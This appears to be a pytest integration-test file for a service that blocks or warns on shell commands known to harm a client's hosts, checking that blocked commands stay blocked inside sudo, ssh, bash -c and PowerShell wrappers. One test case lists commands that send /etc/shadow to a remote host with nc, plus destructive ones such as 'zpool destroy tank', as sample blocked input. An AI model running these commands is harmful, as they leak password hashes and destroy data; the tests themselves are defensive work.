"""A check reads a command as the fingerprint does: blocked stays blocked in every disguise."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import Engine, text

from tests.integration.insights.factories import WRITE, make_client, make_host, unique
from tests.unit.insights.disguised_commands import BLOCKED, UNRELATED

Auth = Callable[..., dict[str, str]]
DISGUISES = [(dont, disguise) for dont, disguises in BLOCKED for disguise in disguises]


@pytest.fixture
def hdr(auth: Auth) -> dict[str, str]:
    return auth(*WRITE)


@pytest.fixture(scope="module")
def estate(app: Any, bearer: Auth) -> dict[str, Any]:
    """One client with a host and a confirmed constraint for each blocked shape."""
    client, hdr = app.test_client(), bearer(*WRITE)
    owner = make_client(client, hdr)
    host = make_host(client, hdr, owner["id"], os="Windows Server")
    constraints = {dont: _constrain(client, hdr, owner["id"], dont) for dont, _ in BLOCKED}
    return {"client": owner, "host": host, "constraints": constraints}


def _constrain(client: FlaskClient, hdr: dict, client_id: str, dont: str) -> dict[str, Any]:
    body = {
        "client_id": client_id,
        "insight_category": "command_constraints",
        "title": unique(f"Never run {dont[:40]}"),
        "description": "breaks this client's estate",
        "confidence_level": "confirmed",
        "priority": 8,
        "examples": [{"kind": "dont", "command": dont}],
    }
    response = client.post("/v1/insights", headers=hdr, json=body)
    assert response.status_code == 201, response.json
    return response.json


def check(client: FlaskClient, hdr: dict, estate: dict, command: str) -> dict[str, Any]:
    body = {
        "client_id": estate["client"]["id"],
        "infrastructure_id": estate["host"]["id"],
        "command": command,
    }
    response = client.post("/v1/check", headers=hdr, json=body)
    assert response.status_code == 200, response.json
    return response.json


def test_the_labelled_set_is_large_enough() -> None:
    assert len(BLOCKED) >= 15
    assert len(DISGUISES) >= 60
    assert len(UNRELATED) >= 60


@pytest.mark.parametrize(("dont", "disguise"), DISGUISES)
def test_a_blocked_command_stays_blocked_in_every_disguise(
    client: FlaskClient, hdr: dict, estate: dict, dont: str, disguise: str
) -> None:
    result = check(client, hdr, estate, disguise)
    assert result["verdict"] == "block"
    assert estate["constraints"][dont]["id"] in {r["id"] for r in result["reasons"]}


@pytest.mark.parametrize("command", UNRELATED)
def test_an_unrelated_command_is_not_blocked(
    client: FlaskClient, hdr: dict, estate: dict, command: str
) -> None:
    assert check(client, hdr, estate, command)["verdict"] == "ok"


def test_a_constraint_stored_under_the_first_reading_still_blocks(
    client: FlaskClient, hdr: dict, estate: dict, engine: Engine
) -> None:
    """Reading 1 kept bundles whole and lower-cased them: `curl -fsS` was `curl -fss`."""
    older = _constrain(client, hdr, estate["client"]["id"], "ls -lart /srv")
    with engine.begin() as connection:
        connection.execute(
            text("UPDATE environmental_insights SET command_key = 'ls -lart' WHERE id = :id"),
            {"id": older["id"]},
        )
    result = check(client, hdr, estate, "ls -lart /var")
    assert result["verdict"] == "block"
    assert older["id"] in {r["id"] for r in result["reasons"]}


def test_a_program_missing_inside_a_pipeline_keys_its_pattern_and_warns_on_its_own_use(
    client: FlaskClient, hdr: dict
) -> None:
    owner = make_client(client, hdr)
    host = make_host(client, hdr, owner["id"], os="Debian")
    ids = {"client_id": owner["id"], "infrastructure_id": host["id"]}
    failure = {
        **ids,
        "command": "bash -c 'curl -s https://api.example.com/x | jq .items'",
        "error_output": "bash: line 1: jq: command not found",
        "exit_code": 127,
    }
    response = client.post("/v1/failures", headers=hdr, json=failure)
    assert response.status_code == 201, response.json
    assert response.json["pattern"]["command_key"] == "jq"
    result = client.post("/v1/check", headers=hdr, json={**ids, "command": "jq -r .name a.json"})
    assert result.json["verdict"] == "warn"
    assert result.json["reasons"][0]["id"] == response.json["pattern"]["id"]
    unrelated = client.post("/v1/check", headers=hdr, json={**ids, "command": "curl -s https://x"})
    assert unrelated.json["verdict"] == "ok"


def test_a_program_missing_on_one_host_warns_only_there(client: FlaskClient, hdr: dict) -> None:
    owner = make_client(client, hdr)
    nas, server = (make_host(client, hdr, owner["id"], os=os) for os in ("DSM", "Debian"))
    failure = {
        "client_id": owner["id"],
        "infrastructure_id": nas["id"],
        "command": "sudo apt-get update",
        "error_output": "sudo: apt-get: command not found",
        "exit_code": 1,
    }
    assert client.post("/v1/failures", headers=hdr, json=failure).status_code == 201
    verdicts = {
        host["hostname"]: client.post(
            "/v1/check",
            headers=hdr,
            json={
                "client_id": owner["id"],
                "infrastructure_id": host["id"],
                "command": "apt-get install -y htop",
            },
        ).json["verdict"]
        for host in (nas, server)
    }
    assert verdicts == {nas["hostname"]: "warn", server["hostname"]: "ok"}


@pytest.mark.parametrize(
    ("dont", "plain"),
    [
        ('powershell -NoProfile -Command "Restart-Computer -Force"', "Restart-Computer -Force"),
        ("sudo apt-get dist-upgrade -y", "apt-get dist-upgrade -y"),
        ("ssh nas01 'zpool destroy tank'", "pwsh -c 'zpool destroy backup'"),
        (
            "bash -c 'cat /etc/shadow | nc 10.0.0.9 9'",
            "sudo bash -lc 'cat /etc/shadow | nc 10.1.1.1 1'",
        ),
    ],
)
def test_a_constraint_learned_from_a_wrapped_command_holds_without_the_wrapper(
    client: FlaskClient, hdr: dict, dont: str, plain: str
) -> None:
    owner = make_client(client, hdr)
    host = make_host(client, hdr, owner["id"])
    learned = _constrain(client, hdr, owner["id"], dont)
    body = {"client_id": owner["id"], "infrastructure_id": host["id"], "command": plain}
    result = client.post("/v1/check", headers=hdr, json=body).json
    assert result["verdict"] == "block"
    assert result["reasons"][0]["id"] == learned["id"]


@pytest.mark.parametrize(
    "command",
    [
        "sudo " * 1600 + "ls",
        "ssh h " * 1300 + "uptime",
        "bash -c '" + "sudo " * 1500 + "ls'",
        "Invoke-Command -ScriptBlock { " * 250 + "hostname" + " }" * 250,
    ],
    ids=["sudo-1600", "ssh-1300", "bash-sudo-1500", "script-blocks-250"],
)
def test_wrappers_nested_without_end_are_read_not_a_server_error(
    client: FlaskClient, hdr: dict, command: str
) -> None:
    owner = make_client(client, hdr)
    host = make_host(client, hdr, owner["id"])
    ids = {"client_id": owner["id"], "infrastructure_id": host["id"]}
    failure = {**ids, "command": command, "error_output": "failed", "exit_code": 1}
    assert client.post("/v1/failures", headers=hdr, json=failure).status_code == 201
    assert (
        client.post("/v1/check", headers=hdr, json={**ids, "command": command}).status_code == 200
    )


@pytest.mark.parametrize(
    ("learned", "checked"),
    [
        (
            "ssh admin@fs01.acme.local 'systemctl restart nginx'",
            "ssh -p 22 admin@fs01.acme.local 'systemctl restart nginx'",
        ),
        ("ssh admin@fs01.acme.local 'systemctl restart nginx'", "systemctl restart nginx"),
        ("ssh fs01 sudo systemctl restart nginx", "sudo systemctl restart nginx"),
        (
            "ssh -p 2222 -i ~/.ssh/id_ed25519 -o BatchMode=yes fs01 'systemctl restart nginx'",
            "ssh fs01 'systemctl restart nginx'",
        ),
        ("sudo -iu root systemctl restart nginx", "sudo -u admin -i systemctl restart nginx"),
    ],
)
def test_a_failure_learned_through_ssh_blocks_however_the_host_is_reached(
    client: FlaskClient, hdr: dict, learned: str, checked: str
) -> None:
    owner = make_client(client, hdr)
    host = make_host(client, hdr, owner["id"], os="Debian")
    ids = {"client_id": owner["id"], "infrastructure_id": host["id"]}
    failure = {
        **ids,
        "command": learned,
        "error_output": "Failed to restart nginx.service: Access denied",
        "exit_code": 1,
    }
    for _ in range(2):
        response = client.post("/v1/failures", headers=hdr, json=failure)
        assert response.status_code == 201, response.json
    pattern = response.json["pattern"]
    result = client.post("/v1/check", headers=hdr, json={**ids, "command": checked}).json
    assert result["verdict"] == "block", result
    assert pattern["id"] in [reason["id"] for reason in result["reasons"]]
